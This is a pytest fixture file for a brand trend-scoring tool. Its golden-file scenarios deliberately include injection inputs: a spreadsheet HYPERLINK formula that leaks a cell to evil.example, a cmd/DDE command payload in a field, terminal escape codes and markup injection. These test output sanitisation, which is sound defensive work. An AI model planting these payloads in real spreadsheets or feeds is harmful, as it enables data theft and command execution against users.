"""Shared test builders (``make_topic``, ``make_scored``, ``make_report``), scenarios, golden files.

The builders are plain functions (importable where ``tests/`` is on ``sys.path``) and fixtures of
the same name (``def test_x(make_topic): ...``), so tests can use whichever suits them.

Golden files live in ``tests/golden/<scenario>/`` and are compared byte for byte; run
``pytest --update-golden`` to rewrite them, then review the diff.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path
from typing import Any

import pytest

from rtm_score.models import Decision, Reason, Report, RowError, ScoredTopic, SourceRef, Topic

GOLDEN_DIR = Path(__file__).parent / "golden"

FIXED_NOW = dt.datetime(2026, 11, 22, 7, 30, tzinfo=dt.timezone(dt.timedelta(hours=1)))
"""The ``generated_at`` builders use: a fixed time with a non-UTC offset."""


# --- builders -------------------------------------------------------------------------------


def make_topic(name: str = "#Topic", **overrides: Any) -> Topic:
    """A ``Topic`` named ``name``; any field can be overridden (``id`` defaults to ``"1"``)."""
    fields: dict[str, Any] = {"id": "1", "name": name}
    fields.update(overrides)
    return Topic(**fields)


def make_scored(
    topic: Topic | str = "#Topic",
    *,
    decision: Decision | str = Decision.SKIP,
    relevance: float = 0.0,
    sensitivity: float = 0.0,
    rank: int = 1,
    categories: Iterable[str] = (),
    reasons: Iterable[Reason | tuple[str, str] | tuple[str, str, str]] = (),
    territories: Iterable[str] = (),
    **topic_overrides: Any,
) -> ScoredTopic:
    """A ``ScoredTopic``; a ``topic`` given by name is built with ``make_topic(name, **overrides)``.

    Reasons may be given as ``Reason`` objects or ``(code, message[, evidence])`` tuples.
    """
    if isinstance(topic, str):
        topic = make_topic(topic, **topic_overrides)
    elif topic_overrides:
        topic = dataclasses.replace(topic, **topic_overrides)
    return ScoredTopic(
        rank=rank,
        topic=topic,
        decision=Decision(decision),
        relevance=relevance,
        sensitivity=sensitivity,
        categories=tuple(categories),
        reasons=tuple(r if isinstance(r, Reason) else Reason(*r) for r in reasons),
        territories=tuple(territories),
    )


def make_report(
    topics: Iterable[ScoredTopic] = (),
    *,
    rerank: bool = True,
    brand: str = "Acme Snacks",
    generated_at: dt.datetime = FIXED_NOW,
    version: str = "0.1.0",
    errors: Iterable[RowError | tuple[int, str]] = (),
    feed: str = "",
    as_of: dt.date | None = None,
    meta: Mapping[str, str] | None = None,
) -> Report:
    """A ``Report`` of ``topics``; with ``rerank`` (the default) ranks become 1..n in given order.

    Errors may be given as ``RowError`` objects or ``(row, message)`` tuples.
    """
    scored = tuple(topics)
    if rerank:
        scored = tuple(dataclasses.replace(t, rank=i) for i, t in enumerate(scored, start=1))
    return Report(
        brand=brand,
        generated_at=generated_at,
        version=version,
        topics=scored,
        errors=tuple(e if isinstance(e, RowError) else RowError(*e) for e in errors),
        feed=feed,
        as_of=as_of,
        meta=dict(meta or {}),
    )


@pytest.fixture(name="make_topic")
def _make_topic_fixture() -> Callable[..., Topic]:
    return make_topic


@pytest.fixture(name="make_scored")
def _make_scored_fixture() -> Callable[..., ScoredTopic]:
    return make_scored


@pytest.fixture(name="make_report")
def _make_report_fixture() -> Callable[..., Report]:
    return make_report


# --- scenarios ------------------------------------------------------------------------------

MARKUP_TOPIC = "[bold red]FREE[/] [link=https://evil.example]coats[/link] :fire:"
FORMULA_TOPIC = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for 50% off")'
CONTROL_TOPIC = "Breaking\x1b[2J\x1b[31m NEWS\r\n\x07now\x9b1m live"
UNICODE_TOPIC = "Fête des Lumières — 東京 ライトアップ"


def build_mixed_day_report() -> Report:
    """The ``mixed_day`` golden scenario: a fashion brand on a day mixing tragedy and hype.

    It holds two engages (one with unicode text), a markup-injection topic, a spreadsheet
    formula topic, a topic full of terminal control codes, a ``never`` with several reasons
    and two unreadable feed rows. Every formatter's golden files are rendered from it.
    """
    src = "feeds/mixed-day.csv"
    topics = [
        make_scored(
            "#AutumnLooks",
            id="t1",
            decision="engage",
            relevance=0.82374,
            sensitivity=0.0,
            context="Street-style autumn outfits 🍂 are trending, coats and knitwear everywhere",
            volume=125000.0,
            date=dt.date(2026, 11, 22),
            region="GB",
            source=SourceRef(src, 2),
            territories=("fashion",),
            reasons=(
                Reason("relevance", "Matches the brand's keywords", "autumn, coat", "model"),
                Reason("policy.engage", "relevance 0.82 ≥ 0.40, no sensitivity findings", "0.82"),
            ),
        ),
        make_scored(
            UNICODE_TOPIC,
            id="t2",
            decision="engage",
            relevance=0.45615,
            sensitivity=0.10490,
            context="Lyon's festival of lights comes to Tokyo; « illuminations » everywhere",
            volume=8300.5,
            region="FR",
            source=SourceRef(src, 3),
            reasons=(
                Reason("relevance", "Matches the brand's keywords", "lumières, lights", "model"),
                Reason("policy.engage", "relevance 0.46 ≥ 0.40, no sensitivity findings", "0.46"),
            ),
        ),
        make_scored(
            MARKUP_TOPIC,
            id="t3",
            decision="skip",
            relevance=0.1212,
            sensitivity=0.0,
            context="[/] unbalanced markup [on red]",
            source=SourceRef(src, 4),
            reasons=(
                Reason("policy.skip", "relevance 0.12 < 0.40: not relevant enough", "[b]0.12[/b]"),
            ),
        ),
        make_scored(
            FORMULA_TOPIC,
            id="=1+2",
            decision="skip",
            relevance=0.0,
            sensitivity=0.0,
            context='+cmd|" /C calc"!A0',
            source=SourceRef(src, 5),
            categories=("@spam",),
            reasons=(Reason("policy.skip", "-relevance 0.00 < 0.40: not relevant enough", "=0"),),
        ),
        make_scored(
            CONTROL_TOPIC,
            id="t5",
            decision="skip",
            relevance=0.30001,
            sensitivity=0.3549,
            categories=("politics",),
            context="Line one\r\nLine two\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
            source=SourceRef(src, 6),
            reasons=(
                Reason("sens.politics", "Debated political issue", "election", "rule"),
                Reason("policy.skip", "sensitivity 0.35 ≥ 0.30 in a territory the brand avoids"),
            ),
        ),
        make_scored(
            "#Aurora",
            id="t6",
            decision="never",
            relevance=0.70614,
            sensitivity=0.94125,
            categories=("death-injury", "violence-crime"),
            context="Gunman opens fire at Aurora cinema; 12 killed, dozens injured",
            volume=2400000.0,
            date=dt.date(2026, 11, 22),
            region="US",
            source=SourceRef(src, 8),
            territories=("fashion",),
            reasons=(
                Reason("off-limits", "On the off-limits list: shootings", "shooting", "profile"),
                Reason(
                    "sens.violence-crime",
                    "Violence or crime: the topic is about a shooting with a gunman on the loose "
                    "and police at the scene",
                    "shooting, gunman",
                    "rule",
                ),
                Reason("sens.death-injury", "Death or injury reported", "killed, injured", "rule"),
                Reason("relevance", "Matches the product Aurora dress", "aurora", "model"),
                Reason("policy.never", "sensitivity 0.94 ≥ 0.60: never, whatever the relevance"),
            ),
        ),
    ]
    return make_report(
        topics,
        brand="Northwind Apparel",
        feed=src,
        as_of=dt.date(2026, 11, 22),
        errors=(
            RowError(7, "the topic cell is empty", src),
            RowError(12, "volume 'lots' is not a number", src),
        ),
    )


@pytest.fixture
def mixed_day_report() -> Report:
    """The ``mixed_day`` scenario report (see :func:`build_mixed_day_report`)."""
    return build_mixed_day_report()


def build_story_report(payload: str = "") -> Report:
    """A day on which the brand is in the news: its own recall (never), a trend named after it
    that may be bad news (skip), a competitor's trouble (skip), its own milestone (engage) and
    an ordinary opportunity; ``payload`` is put into every story's text."""

    def story(code: str, message: str) -> Reason:
        return Reason(code, f"{message}{payload}", f"Acme in the topic's name{payload}", "model")

    topics = [
        make_scored("#PizzaDay", decision="engage", relevance=0.9, id="t1"),
        make_scored(
            f"Acme 50 years{payload}",
            decision="engage",
            relevance=0.8,
            id="t2",
            reasons=[("policy.engage", "relevant and safe"), story("brand.own-story", "own")],
        ),
        make_scored(
            f"#AcmeRecall{payload}",
            decision="never",
            id="t3",
            reasons=[story("brand.in-the-news", "listen first")],
        ),
        make_scored(
            "Snackco recall",
            id="t4",
            reasons=[story("brand.competitor-trouble", "do not pile on")],
        ),
        make_scored("#Acme", id="t5", reasons=[story("brand.check-first", "read it first")]),
    ]
    return make_report(topics, brand="Acme Snacks")


@pytest.fixture
def story_report() -> Report:
    """See :func:`build_story_report`."""
    return build_story_report()


@pytest.fixture(name="make_story_report")
def _make_story_report_fixture() -> Callable[[str], Report]:
    return build_story_report


# --- golden files ---------------------------------------------------------------------------


def pytest_addoption(parser: pytest.Parser) -> None:
    parser.addoption(
        "--update-golden",
        action="store_true",
        default=False,
        help="rewrite the golden files under tests/golden/ from the current output",
    )


class Golden:
    """Compares rendered output with ``tests/golden/<path>`` byte for byte (or rewrites it)."""

    def __init__(self, update: bool) -> None:
        self.update = update

    def path(self, relpath: str) -> Path:
        """Where the golden file ``relpath`` (e.g. ``mixed_day/report.json``) lives."""
        return GOLDEN_DIR / relpath

    def check(self, relpath: str, actual: str) -> None:
        """Assert ``actual`` (encoded as UTF-8) equals the golden file; rewrite it with the flag."""
        path = self.path(relpath)
        data = actual.encode("utf-8")
        if self.update:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
            return
        if not path.exists():
            pytest.fail(f"golden file {path} is missing; create it with: pytest --update-golden")
        expected = path.read_bytes()
        if data != expected:
            # Compare as text first so pytest shows a readable diff.
            assert actual == expected.decode("utf-8"), f"{path} differs (pytest --update-golden)"
            assert data == expected, f"{path} differs in bytes (pytest --update-golden)"


@pytest.fixture
def golden(request: pytest.FixtureRequest) -> Golden:
    """The golden-file checker; honours ``pytest --update-golden``."""
    return Golden(bool(request.config.getoption("--update-golden")))


MIXED_CONTEXTS = [
    "Gunman opens fire at a cinema; 12 people killed",
    "Chips and dips for the big game night with friends",
    "The series finale drew record viewers for the drama",
    "A ferry sinks off the coast and dozens are feared dead",
    "Crispy potato chips in a new smoky flavour",
    "",
]
"""Contexts of every kind (tragedy, the snack brand's own ground, fiction, none)."""


@pytest.fixture(name="mixed_feed")
def _mixed_feed_fixture() -> Callable[[int], list[Topic]]:
    """``mixed_feed(n)``: n topics cycling through :data:`MIXED_CONTEXTS`, each unique."""

    def make(n: int) -> list[Topic]:
        return [
            Topic(
                id=str(i),
                name=f"#Topic{i % 7}",
                context=f"{MIXED_CONTEXTS[i % len(MIXED_CONTEXTS)]} {i}",
            )
            for i in range(n)
        ]

    return make


@pytest.fixture
def small_chunks(monkeypatch: pytest.MonkeyPatch) -> None:
    """Chunks of 4 topics, so that a feed of a few dozen spans many of them."""
    from rtm_score import scorer, spool

    monkeypatch.setattr(scorer, "CHUNK", 4)
    monkeypatch.setattr(spool, "CHUNK", 4)
